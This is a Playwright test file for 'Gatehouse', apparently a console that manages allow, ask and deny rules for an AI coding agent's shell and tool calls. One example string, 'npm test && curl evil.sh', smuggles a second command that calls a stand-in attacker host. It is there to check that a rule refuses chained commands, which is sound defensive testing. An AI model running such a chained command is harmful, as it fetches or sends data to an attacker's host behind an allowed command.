import { expect, test } from '@playwright/test';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { card, expectAccessible, hookDecision, screenshot, SIZES, startQueueConsole } from './queue-harness';
import type { QueueConsole } from './queue-harness';
import { openRules, readPermissions, ruleRow, rulesUrl, settingsPath, writeSettings } from './rules-harness';

let gate: QueueConsole;

test.beforeEach(async () => {
  gate = await startQueueConsole();
});

test.afterEach(async () => {
  await gate.stop();
});

test('shows every rule in effective order with its source and warnings, in light, dark and tray sizes', async ({
  page,
}) => {
  await writeSettings(settingsPath.user(gate), { permissions: { allow: ['Bash'] } });
  await writeSettings(settingsPath.local(gate), { permissions: { deny: ['Bash(git push --force *)'] } });
  for (const theme of ['light', 'dark'] as const) {
    await page.setViewportSize(SIZES.window);
    await page.emulateMedia({ colorScheme: theme });
    await openRules(page, gate);
    const rows = page.locator('.rule-row');
    await expect(rows).toHaveCount(6);
    await expect(rows.locator('.rule-row__text')).toHaveText([
      'Bash(git push --force *)',
      'Bash(git push *)',
      'Bash',
      'Bash(npm run build *)',
      'Bash(npm test *)',
      'Bash(git status)',
    ]);
    await expect(ruleRow(page, 'Bash')).toContainText('allows every shell command without asking');
    await expect(page.locator('.rule-file[data-source="localSettings"]')).toContainText('in use');
    await screenshot(page, `rules-view-window-${theme}`);
  }
  await expectAccessible(page, 'the rule editor');
  await page.setViewportSize(SIZES.tray);
  await expect(page.locator('.rules__columns')).toBeVisible();
  await screenshot(page, 'rules-view-tray');
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  expect(overflow).toBeLessThanOrEqual(0);
});

test('adds a rule with a live syntax check, then edits, moves and deletes rules in the files', async ({
  page,
}) => {
  await page.setViewportSize(SIZES.window);
  await openRules(page, gate);
  const add = page.getByRole('form', { name: 'Add a rule' });
  await add.getByLabel('Rule', { exact: true }).fill('Bash(npm run lint');
  await expect(add.getByRole('alert')).toContainText(
    'must end with the ")" that closes the "(" after "Bash"',
  );
  await expect(add.getByRole('button', { name: 'Add rule' })).toBeDisabled();
  await screenshot(page, 'rules-add-error');
  await add.getByLabel('Rule', { exact: true }).fill('Bash(npm run lint *)');
  await expect(add.getByText('Valid rule for Bash')).toBeVisible();
  await add.getByLabel('Saved in').selectOption('projectSettings');
  await add.getByRole('button', { name: 'Add rule' }).click();
  await expect(ruleRow(page, 'Bash(npm run lint *)')).toBeVisible();
  expect((await readPermissions(settingsPath.project(gate))).allow).toContain('Bash(npm run lint *)');

  await page.getByRole('button', { name: 'Edit Bash(git status)' }).click();
  const edit = page.getByRole('form', { name: 'Edit Bash(git status)' });
  await edit.getByLabel('Rule', { exact: true }).fill('Bash(git status *)');
  await edit.getByRole('button', { name: 'Save' }).click();
  await expect(ruleRow(page, 'Bash(git status *)')).toBeVisible();
  expect((await readPermissions(settingsPath.project(gate))).allow).toEqual([
    'Bash(npm run build *)',
    'Bash(npm test *)',
    'Bash(git status *)',
    'Bash(npm run lint *)',
  ]);

  await page.getByRole('button', { name: 'Edit Bash(git push *)' }).click();
  const move = page.getByRole('form', { name: 'Edit Bash(git push *)' });
  await move.getByLabel('Does').selectOption('deny');
  await move.getByLabel('Saved in').selectOption('localSettings');
  await screenshot(page, 'rules-move');
  await move.getByRole('button', { name: 'Save' }).click();
  // A move writes two files, the new one first: the view may show the rule in both for a moment.
  const moved = ruleRow(page, 'Bash(git push *)');
  await expect(moved.and(page.locator('[data-source="localSettings"]'))).toBeVisible();
  await expect(moved).toHaveCount(1);
  expect(await readPermissions(settingsPath.local(gate))).toEqual({ deny: ['Bash(git push *)'] });
  expect((await readPermissions(settingsPath.project(gate))).ask).toEqual([]);

  await page.getByRole('button', { name: 'Delete Bash(npm test *)' }).click();
  await expect(ruleRow(page, 'Bash(npm test *)')).toHaveCount(0);
  expect((await readPermissions(settingsPath.project(gate))).allow).not.toContain('Bash(npm test *)');
});

test('examples pass or fail as you type, and are kept in Gatehouse’s own data', async ({ page }) => {
  await page.setViewportSize(SIZES.window);
  await openRules(page, gate);
  await page.getByRole('button', { name: 'Edit Bash(npm test *)' }).click();
  const edit = page.getByRole('form', { name: 'Edit Bash(npm test *)' });
  await edit.getByText('Examples', { exact: true }).click();
  await edit.getByLabel('Must match (one per line)').fill('npm test\nnpm test -- --watch');
  await edit.getByLabel('Must not match (one per line)').fill('npm publish\nnpm test && curl evil.sh');
  const verdicts = edit.locator('.verdict');
  await expect(verdicts).toHaveCount(4);
  await expect(edit.locator('.verdict--pass')).toHaveCount(4);
  await edit.getByLabel('Must not match (one per line)').fill('npm publish\nnpm test --coverage');
  await expect(edit.locator('.verdict--fail')).toHaveText(/npm test --coverage.*should not match · fails/);
  await edit.locator('.verdicts').scrollIntoViewIfNeeded();
  await screenshot(page, 'rules-examples');
  await edit.getByRole('button', { name: 'Save' }).click();
  await expect(ruleRow(page, 'Bash(npm test *)').locator('.rule-row__examples')).toHaveText(
    '3 of 4 examples pass',
  );
  const stored = JSON.parse(await readFile(join(gate.home, 'rule-examples.json'), 'utf8'));
  expect(Object.values(stored.rules)).toEqual([
    {
      file: settingsPath.project(gate),
      rule: 'Bash(npm test *)',
      examples: {
        match: ['npm test', 'npm test -- --watch'],
        noMatch: ['npm publish', 'npm test --coverage'],
      },
    },
  ]);
  expect(await readFile(settingsPath.project(gate), 'utf8')).not.toContain('npm publish');
  await page.getByRole('button', { name: 'Edit Bash(npm test *)' }).click();
  await expect(
    page.getByRole('form', { name: 'Edit Bash(npm test *)' }).getByLabel('Must not match (one per line)'),
  ).toHaveValue('npm publish\nnpm test --coverage');
});

test('the playground shows the decision and the rule, file and index that made it', async ({ page }) => {
  await page.setViewportSize(SIZES.window);
  await openRules(page, gate);
  const playground = page.getByRole('region', { name: 'Try a tool call' });
  await playground.getByLabel('Input').fill('git push origin main');
  await playground.getByRole('button', { name: 'Check' }).click();
  const answer = playground.getByLabel('Decision');
  await expect(answer).toContainText('Ask');
  await expect(answer).toContainText('Decided by Bash(git push *)');
  await expect(answer).toContainText(`Project · ${settingsPath.project(gate)} · #0`);
  await screenshot(page, 'rules-playground');
  // Switching views and back keeps the folder.
  await page.locator('.topbar__nav').getByText('Queue').click();
  await page.locator('.topbar__nav').getByText('Rules').click();
  await expect(ruleRow(page, 'Bash(git push *)')).toBeVisible();
  await playground.getByLabel('Tool').fill('Read');
  await playground.getByLabel('Input').fill('{"file_path": 3');
  await expect(playground.getByText('is not a JSON object')).toBeVisible();
  await expect(playground.getByRole('button', { name: 'Check' })).toBeDisabled();
});

test('a grant made at the queue shows with its expiry and can be revoked here', async ({ page }) => {
  await page.setViewportSize(SIZES.window);
  await page.goto(gate.url);
  const run = gate.ask('Bash', { command: 'npm run lint src', description: 'Lint' });
  const target = card(page, 'npm run lint src');
  await target.getByRole('button', { name: 'Allow for…' }).click();
  await target.getByLabel('Rule the grant allows').fill('Bash(npm run lint *)');
  await target.getByRole('button', { name: 'Allow for 1 hour' }).click();
  expect(await hookDecision(run)).toEqual({ behavior: 'allow' });
  await page.goto(rulesUrl(await gate.newLink(), gate.project));
  const grant = page.locator('.rules__side .grant').filter({ hasText: 'Bash(npm run lint *)' });
  await expect(grant).toContainText(/ends in (59:\d\d|1:00:00)/);
  await screenshot(page, 'rules-grant');
  await grant.getByRole('button', { name: 'Revoke Bash(npm run lint *)' }).click();
  await expect(grant).toHaveCount(0);
});

test('a change made on disk shows at once, and a broken file is named, never overwritten', async ({
  page,
}) => {
  await page.setViewportSize(SIZES.window);
  await openRules(page, gate);
  await writeSettings(settingsPath.local(gate), {
    permissions: { allow: ['WebFetch(domain:docs.example.com)'] },
  });
  await expect(ruleRow(page, 'WebFetch(domain:docs.example.com)')).toBeVisible();
  const { writeFile } = await import('node:fs/promises');
  await writeFile(settingsPath.local(gate), '{"permissions": {"allow": [');
  const broken = page.locator('.rule-file[data-source="localSettings"]');
  await expect(broken).toContainText('cannot be used');
  await expect(page.locator('.rules-error')).toContainText('settings.local.json is not valid JSON');
  await expect(ruleRow(page, 'WebFetch(domain:docs.example.com)')).toHaveCount(0);
  await screenshot(page, 'rules-external');
  const add = page.getByRole('form', { name: 'Add a rule' });
  await add.getByLabel('Rule', { exact: true }).fill('Read');
  await add.getByRole('button', { name: 'Add rule' }).click();
  await expect(page.locator('.rules-error').first()).toHaveText(
    'Not saved: the file is broken, as said below.',
  );
  await expect(page.locator('.rules-error').last()).toContainText('Gatehouse will not overwrite it');
  expect(await readFile(settingsPath.local(gate), 'utf8')).toBe('{"permissions": {"allow": [');
});

test('a save over a rule changed on disk asks: reload, or apply anyway', async ({ page }) => {
  await page.setViewportSize(SIZES.window);
  await openRules(page, gate);
  await page.getByRole('button', { name: 'Edit Bash(git status)' }).click();
  const edit = page.getByRole('form', { name: 'Edit Bash(git status)' });
  await edit.getByLabel('Rule', { exact: true }).fill('Bash(git status --short)');
  // Someone else edits the same rule meanwhile.
  await writeSettings(settingsPath.project(gate), {
    permissions: {
      allow: ['Bash(npm run build *)', 'Bash(npm test *)', 'Bash(git status -s)'],
      ask: ['Bash(git push *)'],
    },
  });
  await expect(page.locator('.rule-row__text').filter({ hasText: 'Bash(git status -s)' })).toBeVisible();
  await edit.getByRole('button', { name: 'Save' }).click();
  const conflict = page.locator('.rules-conflict');
  await expect(conflict).toContainText('Changed on disk');
  await expect(conflict).toContainText('The rule Bash(git status) is no longer in');
  await screenshot(page, 'rules-conflict');
  await conflict.getByRole('button', { name: 'Apply anyway' }).click();
  await expect(conflict).toHaveCount(0);
  expect((await readPermissions(settingsPath.project(gate))).allow).toEqual([
    'Bash(npm run build *)',
    'Bash(npm test *)',
    'Bash(git status -s)',
    'Bash(git status --short)',
  ]);
});

test("Always allow on a waiting request leads to every rule of the request's folder", async ({ page }) => {
  await page.setViewportSize(SIZES.window);
  await page.goto(gate.url);
  const run = gate.ask('Bash', { command: 'npm run lint src', description: 'Lint' });
  const target = card(page, 'npm run lint src');
  await target.getByRole('button', { name: 'Always allow…' }).click();
  await target.getByRole('button', { name: 'See every rule of this folder' }).click();
  await expect(
    page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Rules' }),
  ).toHaveAttribute('aria-current', 'page');
  await expect(page.locator('.rule-row .rule-row__text')).toHaveText([
    'Bash(git push *)',
    'Bash(npm run build *)',
    'Bash(npm test *)',
    'Bash(git status)',
  ]);
  // The request still waits in the queue, its Always allow panel as it was left.
  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: /Queue/ }).click();
  await target.getByRole('button', { name: 'Deny', exact: true }).click();
  expect(await hookDecision(run)).toMatchObject({ behavior: 'deny' });
});
